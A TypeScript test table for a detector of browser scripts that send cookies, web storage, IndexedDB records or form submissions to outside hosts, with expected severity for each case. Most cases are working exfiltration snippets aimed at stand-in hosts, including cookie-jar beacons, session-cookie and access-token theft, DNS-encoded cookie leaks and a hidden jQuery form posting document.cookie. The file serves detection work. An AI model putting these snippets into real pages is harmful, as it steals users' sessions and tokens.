/**
 * Cookies and web storage sent out: session theft when the script takes what is not its own (the whole cookie jar,
 * a server's session cookie, storage enumerated or another script's token) to a host it names; quiet (low) when a
 * library sends back its own visitor id or sends to wherever it is configured to.
 */
import { detectorTable, type DetectorCase } from './detector-table.ts';

const sessionMaterial: DetectorCase[] = [
  ['the whole cookie jar in an image beacon',
    'new Image().src = "https://px.example/c.gif?d=" + encodeURIComponent(document.cookie);', 'medium'],
  ['the whole cookie jar sent where the code does not say',
    'fetch(endpoint, { method: "POST", body: document.cookie });', 'low'],
  ['one cookie of its own picked out of the jar',
    'var id = document.cookie.match(/(?:^|; )_vid=([^;]*)/); new Image().src = "https://px.example/c.gif?v=" + (id && id[1]);', 'low'],
  ['a server session cookie picked out of the jar',
    'var s = document.cookie.match(/(?:^|; )(PHPSESSID|laravel_session)=([^;]*)/); new Image().src = "https://px.example/c.gif?v=" + s[2];', 'medium'],
  ['a storage key the script writes itself, read back and sent',
    'localStorage.setItem("_uid", Math.random().toString(36)); navigator.sendBeacon("https://px.example/b", localStorage.getItem("_uid"));', 'low'],
  ['a token another script stored',
    'navigator.sendBeacon("https://px.example/b", localStorage.getItem("access_token"));', 'medium'],
  ['storage enumerated with key(i)',
    'var o = {}; for (var i = 0; i < sessionStorage.length; i++) { var k = sessionStorage.key(i); o[k] = sessionStorage.getItem(k); } fetch("https://px.example/s", { method: "POST", body: JSON.stringify(o) });', 'medium'],
  ['storage items read by index',
    'var all = []; for (var k in localStorage) all.push(k + "=" + localStorage[k]); new Image().src = "https://px.example/l?d=" + btoa(all.join("&"));', 'medium'],
  ['the storage object serialised whole',
    'navigator.sendBeacon("https://px.example/b", JSON.stringify(window.localStorage));', 'medium'],
  ['only the storage keys listed',
    'navigator.sendBeacon("https://px.example/b", JSON.stringify(Object.keys(localStorage)));', null],
  ['IndexedDB records resolved through a promise and posted',
    `function done(r) { return new Promise(function (resolve) { r.onsuccess = function () { resolve(r.result); }; }); }
     async function go(db) { var rows = await done(db.transaction("auth").objectStore("auth").getAll()); fetch("https://px.example/i", { method: "POST", body: JSON.stringify(rows) }); }`, 'medium'],
  ['data spelled into a host name under a fixed zone (DNS lookups)',
    'var h = ""; for (var i = 0; i < document.cookie.length; i++) h += document.cookie.charCodeAt(i).toString(16); var host = h.slice(0, 60) + ".q.zone.example"; new Image().src = "https://" + host + "/p.png";', 'medium'],
  ['data as the whole host name',
    'new Image().src = "https://" + btoa(document.cookie) + "/p.png";', 'low'],
];

detectorTable('form-data-exfiltration', sessionMaterial);

const jqueryForms: DetectorCase[] = [
  ['a form built by jQuery pointed at an outside host and submitted',
    'var f = $("<form>", { method: "POST", action: "https://collect.example/s" }).hide(); $("<input>", { type: "hidden", name: "c", value: document.cookie }).appendTo(f); f.appendTo("body").trigger("submit");', 'high'],
  ['an existing form re-pointed with .attr',
    '$("#checkout").attr("action", "https://collect.example/s");', 'medium'],
  ['a form built by jQuery posting to the site itself',
    'var f = $("<form>", { method: "POST", action: "/newsletter" }); f.appendTo("body").trigger("submit");', null],
  ['an action key in an unrelated object',
    'store.dispatch({ type: "save", action: "https://api.example/save" });', null],
];

detectorTable('form-action-rewrite', jqueryForms);
